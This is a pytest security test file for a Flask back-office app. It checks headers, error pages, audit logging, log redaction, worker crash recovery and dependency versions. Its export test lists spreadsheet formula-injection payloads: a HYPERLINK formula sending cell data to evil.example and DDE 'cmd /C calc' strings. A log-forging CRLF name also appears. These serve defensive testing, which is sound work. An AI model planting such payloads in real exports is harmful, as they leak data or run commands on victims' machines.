"""What every response and log says: security headers, error pages, the audit log and the
application log, spreadsheet formulas in exports, a killed worker, and the dependencies' versions.

Checklist items 28-32 and 38 (see SECURITY.md).
"""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

import models
from helpers import (
    PASSWORD,
    ROOT,
    documents_payload,
    login,
    register_through_the_form,
    registration_data,
    staff_client_for,
)
from security_world import build_world

# ---------------------------------------------------------------------- 28: headers


def assert_security_headers(response, where, authenticated=False):
    h = response.headers
    hsts = re.search(r"max-age=(\d+)", h.get("Strict-Transport-Security", ""))
    assert hsts and int(hsts.group(1)) >= 31536000, where
    csp = h.get("Content-Security-Policy", "")
    assert "frame-ancestors" in csp, where
    script_src = re.search(r"script-src ([^;]*)", csp) or re.search(r"default-src ([^;]*)", csp)
    assert script_src and "'unsafe-inline'" not in script_src.group(1) and "*" not in script_src.group(1), where
    assert h.get("X-Content-Type-Options") == "nosniff", where
    assert h.get("X-Frame-Options") in ("DENY", "SAMEORIGIN"), where
    assert h.get("Referrer-Policy") in ("same-origin", "strict-origin", "strict-origin-when-cross-origin"), where
    if authenticated:
        assert "no-store" in h.get("Cache-Control", ""), where


def test_security_headers_everywhere(app, make_officer, make_staff, dbc):
    world = build_world(app, make_officer, make_staff)
    anon = world.clients["anonymous"]
    for url in (
        "/",
        "/officer/login",
        "/officer/register",
        "/verify?q=1",
        "/admin/login",
        "/static/css/app.css",
        "/no-such-page",
        f"/branch/{world['b1']}",
    ):
        assert_security_headers(anon.get(url), url)
    assert_security_headers(anon.post("/officer/logout"), "POST /officer/logout")
    assert_security_headers(anon.get("/officer/logout"), "405")
    for role, urls in {
        "officer": (
            "/officer/",
            "/officer/profile",
            f"/officer/documents/{world['doc_qa']}",
            "/static/css/app.css",
            "/no-such-page",
            f"/officer/qualification/{world['qisf']}",
        ),
        "distributor": ("/distributor/", "/no-such-page"),
        "reviewer_a": (
            "/admin/",
            "/admin/qualification/",
            f"/admin/qualification/review/?id={world['qa']}",
            "/admin/qualification/export/csv/",
            "/admin/officer/",
            f"/admin/qualification/document/?doc={world['doc_qa']}",
        ),
        "directorate": ("/admin/officer/", "/admin/audit/", "/admin/officer/export/csv/"),
    }.items():
        for url in urls:
            assert_security_headers(world.clients[role].get(url), f"{role} {url}", authenticated=True)
    # Flask-Admin's own static files too.
    rule = next(r for r in app.url_map.iter_rules() if r.endpoint == "admin.static")
    assert rule


def test_registration_result_is_not_cached(client, dbc):
    """The page that shows a new user code (an identifier to log in with) is personal data."""
    response = register_through_the_form(client)
    assert response.status_code == 303 and "no-store" in response.headers.get("Cache-Control", "")
    response = client.get(response.headers["Location"])
    assert response.status_code == 200
    assert "no-store" in response.headers.get("Cache-Control", "")


# ---------------------------------------------------------------------- 29: error pages


def test_an_exception_gives_a_generic_page_without_traceback_or_sql(app, dbc, caplog):
    from app import create_app

    fresh = create_app(dict(app.config, TESTING=False, PROPAGATE_EXCEPTIONS=None))
    assert fresh.debug is False and fresh.config["DEBUG"] is False
    assert fresh.config["PROPAGATE_EXCEPTIONS"] is None and not fresh.testing

    @fresh.route("/__test/boom")
    def boom():
        raise RuntimeError("secret-marker-in-exception")

    @fresh.route("/__test/sql")
    def sql():
        models.db.execute_sql("SELECT password_hash FROM no_such_table WHERE national_code = '0499370899'")

    client = fresh.test_client()
    for url in ("/__test/boom", "/__test/sql"):
        with caplog.at_level(logging.ERROR):
            response = client.get(url)
        body = response.get_data(as_text=True)
        assert response.status_code == 500
        for leak in (
            "Traceback",
            "secret-marker",
            "no_such_table",
            "SELECT",
            "password_hash",
            'File "',
            "werkzeug",
            "peewee",
            "sqlite",
            "psycopg",
            "0499370899",
        ):
            assert leak not in body, (url, leak)
        assert "<html" in body and 'role="alert"' in body
        assert_security_headers(response, url)
    # The full error goes to the log, for the operators.
    assert any("secret-marker-in-exception" in (r.exc_text or str(r.exc_info)) for r in caplog.records)


def test_debug_is_off_in_production(app, monkeypatch):
    from app import create_app

    monkeypatch.setenv("APP_ENV", "production")
    monkeypatch.setenv("IDENTITY_BACKEND_NONE_ACKNOWLEDGED", "1")  # these tests are about other settings
    monkeypatch.setenv("SECRET_KEY", "x" * 64)
    monkeypatch.delenv("FLASK_DEBUG", raising=False)
    production = create_app({"DATABASE_URL": app.config["DATABASE_URL"], "UPLOAD_DIR": app.config["UPLOAD_DIR"]})
    assert production.debug is False and production.config["SEED_DEMO_DATA"] is False
    assert "Debugged" not in type(production.wsgi_app).__name__
    monkeypatch.delenv("SECRET_KEY")
    with pytest.raises(RuntimeError):
        create_app({"DATABASE_URL": app.config["DATABASE_URL"]})


# ---------------------------------------------------------------------- 30: audit and logs


def test_audit_rows_for_login_failure_and_decision(app, make_officer, make_staff, dbc):
    officer = make_officer()
    client = app.test_client()
    login(client, "/officer/login", officer.user_code, "Wrong-pass-99")
    login(client, "/officer/login", officer.national_code)
    client.post("/officer/profile/edit", data={"address": "تهران، خیابان آزادی، کوچه دوم، پلاک ۷"})
    client.post(
        "/officer/qualification/new",
        data={"action": "submit", **documents_payload()},
        content_type="multipart/form-data",
    )
    request = models.QualificationRequest.get()
    reviewer_staff = make_staff("university")
    reviewer = staff_client_for(app, reviewer_staff)
    reviewer.post(f"/admin/qualification/review/?id={request.id}", data={"decision": "approve", "note": "تأیید"})
    audit = models.AuditLog
    rows = {
        r.action: r
        for r in audit.select().where(audit.object_type.in_(("officer", "qualification"))).order_by(audit.id)
    }
    for action in ("login_failed", "login", "profile_changed", "qualification_submit", "qualification_approve"):
        assert action in rows, (action, list(rows))
        row = rows[action]
        assert row.at is not None and row.ip == "127.0.0.1" and row.actor_kind, action
    assert rows["login"].actor_id == officer.id and rows["login"].object_id == officer.id
    assert rows["login_failed"].object_type == "officer" and rows["login_failed"].object_id == officer.id
    assert (rows["profile_changed"].actor_kind, rows["profile_changed"].actor_id) == ("officer", officer.id)
    approve = rows["qualification_approve"]
    assert (approve.actor_kind, approve.actor_id, approve.object_type, approve.object_id) == (
        "staff",
        reviewer_staff.id,
        "qualification",
        request.id,
    )
    # The directorate reads it in the back office.
    director = staff_client_for(app, make_staff("directorate"))
    assert "qualification_approve" in director.get("/admin/audit/").get_data(as_text=True)


def test_access_denials_are_audited(app, make_officer, make_staff, dbc):
    world = build_world(app, make_officer, make_staff)
    before = models.AuditLog.select().count()
    world.clients["reviewer_b"].get(f"/admin/qualification/review/?id={world['qa']}")  # 404: another university
    world.clients["reviewer_b"].get("/admin/officer/")  # 403: directorate only
    world.clients["officer"].get(f"/officer/documents/{world['doc_qq']}")  # 404: another officer's document
    denials = list(models.AuditLog.select().where((models.AuditLog.id > 0) & models.AuditLog.action.contains("denied")))
    assert models.AuditLog.select().count() >= before + 3
    assert len(denials) >= 3
    assert {d.actor_id for d in denials} >= {world["reviewer_b"], world["officer_a"]}
    assert all(d.ip and d.at for d in denials)


def test_no_password_or_national_code_in_logs_and_crlf_neutralised(app, make_officer, make_staff, dbc, caplog):
    # The application's loggers at DEBUG, everything else at INFO (peewee logs every query
    # with its parameters at DEBUG: that level must never be enabled in production).
    caplog.set_level(logging.INFO)
    caplog.set_level(logging.DEBUG, logger=app.logger.name)
    secret_password = "Yek-Ramz-Kheili-Mahramaneh-77"
    client = app.test_client()
    data = registration_data(
        national_code="0790419904", password=secret_password, password_confirm=secret_password, mobile="09351239876"
    )
    assert register_through_the_form(client, **data).status_code == 303
    officer = models.Officer.get(models.Officer.national_code == "0790419904")
    login(client, "/officer/login", "0790419904", "Wrong-" + secret_password)
    login(client, "/officer/login", "0790419904", secret_password)
    client.post(
        "/officer/password",
        data={
            "current_password": secret_password,
            "new_password": secret_password + "x",
            "new_password_confirm": secret_password + "x",
        },
    )
    app.test_client().post("/officer/password/reset", data={"username": "0790419904"})
    login(app.test_client(), "/admin/login", "0790419904", secret_password)
    # A name with CR/LF cannot forge an audit line.
    models.Officer.update(first_name="مریم\r\n2024-01-01 login admin").where(models.Officer.id == officer.id).execute()
    login(app.test_client(), "/officer/login", officer.user_code, secret_password + "x")
    text = "\n".join(caplog.messages + [str(r.exc_text or "") for r in caplog.records])
    rows = list(models.AuditLog.select().tuples())
    audit_text = "\n".join(repr(r) for r in rows)
    for secret in (secret_password, "0790419904", "۰۷۹۰۴۱۹۹۰۴"):
        assert secret not in text, secret
        assert secret not in audit_text, secret
    assert all("\r" not in str(v) and "\n" not in str(v) for r in rows for v in r)


# ---------------------------------------------------------------------- 32: exports

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"بزنید")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "\u200f=1+1",
    "\u200e+1",
]


def test_exports_are_formula_safe_with_bom_persian_and_no_secret_columns(app, make_officer, make_staff, dbc):
    officers = []
    for value in DANGEROUS:
        officer = make_officer()
        models.Officer.update(first_name=value, last_name="محمدی‌نژاد").where(models.Officer.id == officer.id).execute()
        officers.append(officer)
    director_staff = make_staff("directorate")
    director = staff_client_for(app, director_staff)
    actor = director_staff.as_actor()
    models.send_notice(actor, DANGEROUS[0], "متن", "all")
    distributor = models.create_distributor("pakhsh", PASSWORD, "شرکت سلامت", "company", "09121110000")
    models.Distributor.update(name=DANGEROUS[1], manager_name=DANGEROUS[6]).execute()
    tehran = models.City.get(models.City.name == "تهران")
    models.Branch.create(
        distributor=distributor,
        name=DANGEROUS[2],
        province=tehran.province,
        city=tehran,
        address="تهران، خیابان انقلاب، پلاک ۱",
    )
    models.audit(actor, "test_action", detail=DANGEROUS[3])

    def rows(view):
        response = director.get(f"/admin/{view}/export/csv/")
        assert response.status_code == 200
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert response.headers["Content-Type"].startswith("text/csv")
        raw = response.get_data()
        assert raw.startswith("\ufeff".encode()), view
        text = raw.decode("utf-8")
        assert "$argon2" not in text and "password" not in text.lower(), view
        return list(csv.reader(io.StringIO(text[1:])))

    def cells(table):
        return [cell for row in table[1:] for cell in row]

    officer_rows = rows("officer")
    exported = cells(officer_rows)
    for value in DANGEROUS:
        assert "'" + value in exported, repr(value)
    assert "محمدی‌نژاد" in exported  # Persian (with its ZWNJ) round-trips
    header = officer_rows[0]
    assert not any("hash" in h.lower() or "گذرواژه" in h for h in header)
    for cell in exported:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\u200f", "\u200e")), repr(cell)
    for view, value in (
        ("message", DANGEROUS[0]),
        ("distributor", DANGEROUS[1]),
        ("distributor", DANGEROUS[6]),
        ("branch", DANGEROUS[2]),
        ("audit", DANGEROUS[3]),
    ):
        exported = cells(rows(view))
        assert "'" + value in exported, (view, value)
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "\u200f")) for c in exported), view
    staff_rows = rows("staff")
    assert not any("hash" in h.lower() for h in staff_rows[0])


# ---------------------------------------------------------------------- 38: a killed worker

SLOW_APP = r"""
import os, sys, time
sys.path.insert(0, {root!r})
from app import create_app
import models
from flask import request
app = create_app({{"DATABASE_URL": {url!r}, "UPLOAD_DIR": {upload!r}, "SECRET_KEY": "k",
                   "SEED_DEMO_DATA": False, "SMS_DELIVER_IN_BACKGROUND": False, "WTF_CSRF_ENABLED": False}})

@app.route("/__test/write", methods=["POST"])
def write():
    key = request.form["key"]
    with models.db.atomic():
        models.AuditLog.create(actor_kind="system", action="crash-test", detail=key)
        models.Officer.update(father_name=key).where(models.Officer.id == -1).execute()
        if request.form.get("hold"):
            open({flag!r}, "w").write(str(os.getpid()))
            time.sleep(60)
    return "ok"
"""


def _free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _post(url, data, timeout=10):
    body = "&".join(f"{k}={v}" for k, v in data.items()).encode()
    return urllib.request.urlopen(urllib.request.Request(url, data=body, method="POST"), timeout=timeout)


def test_sigkill_of_a_gunicorn_worker_mid_transaction(app, dbc, tmp_path):
    """Checklist 38: the killed worker's transaction leaves nothing; the database is intact;
    the retried request writes exactly one row."""
    gunicorn = Path(sys.executable).parent / "gunicorn"
    if not gunicorn.exists():
        pytest.skip("gunicorn is not installed")
    url = app.config["DATABASE_URL"]
    flag = tmp_path / "inside"
    (tmp_path / "slow_app.py").write_text(
        SLOW_APP.format(root=str(ROOT), url=url, upload=str(tmp_path / "docs"), flag=str(flag))
    )
    port = _free_port()
    server = subprocess.Popen(
        [
            str(gunicorn),
            "--workers",
            "1",
            "--bind",
            f"127.0.0.1:{port}",
            "--timeout",
            "120",
            "--chdir",
            str(tmp_path),
            "slow_app:app",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.time() + 30
        while time.time() < deadline:
            try:
                urllib.request.urlopen(base + "/verify", timeout=2)
                break
            except (urllib.error.URLError, ConnectionError, OSError):
                time.sleep(0.2)
        else:
            pytest.fail("gunicorn did not start: " + server.stderr.read1(4000).decode(errors="replace"))
        outcome = {}

        def slow():
            try:
                outcome["response"] = _post(base + "/__test/write", {"key": "killed", "hold": "1"}, timeout=30).status
            except Exception as error:  # the connection is cut by the kill
                outcome["error"] = repr(error)

        thread = threading.Thread(target=slow)
        thread.start()
        deadline = time.time() + 20
        while not flag.exists() and time.time() < deadline:
            time.sleep(0.05)
        assert flag.exists(), "the slow request never reached its transaction"
        worker = int(flag.read_text())
        assert worker != server.pid
        os.kill(worker, signal.SIGKILL)
        thread.join(30)
        assert "response" not in outcome
        # The master starts a new worker; the client retries while the port refuses. Once the
        # master accepts, the request waits for the new worker (seconds on a busy machine):
        # a short timeout would send it twice.
        deadline = time.time() + 30
        while True:
            try:
                assert _post(base + "/__test/write", {"key": "retried"}, timeout=120).status == 200
                break
            except (urllib.error.URLError, ConnectionError, OSError):
                if time.time() > deadline:
                    raise
                time.sleep(0.2)
    finally:
        server.send_signal(signal.SIGTERM)
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        server.stderr.close()
    rows = models.AuditLog.select().where(models.AuditLog.action == "crash-test")
    assert [r.detail for r in rows] == ["retried"]
    if models.is_sqlite():
        assert models.db.execute_sql("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert models.Officer.select().where(models.Officer.father_name == "killed").count() == 0


# ---------------------------------------------------------------------- 31: dependencies

MINIMUM_VERSIONS = {"flask": "3.1.3", "werkzeug": "3.1.6", "flask-admin": "1.5.3"}


def test_dependencies_meet_the_minimum_safe_versions():
    """pip-audit cannot reach a vulnerability database from here (see SECURITY.md), so the
    versions with the known fixes are pinned as minimums and checked."""
    import tomllib
    from importlib.metadata import version

    from packaging.version import Version

    declared = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    for name, minimum in MINIMUM_VERSIONS.items():
        assert Version(version(name)) >= Version(minimum), (name, version(name))
        spec = next(d for d in declared if re.split(r"[\[<>=!~ ]", d, maxsplit=1)[0].lower() == name)
        pinned = re.search(r">=\s*([\d.]+)", spec)
        assert pinned and Version(pinned.group(1)) >= Version(minimum), spec
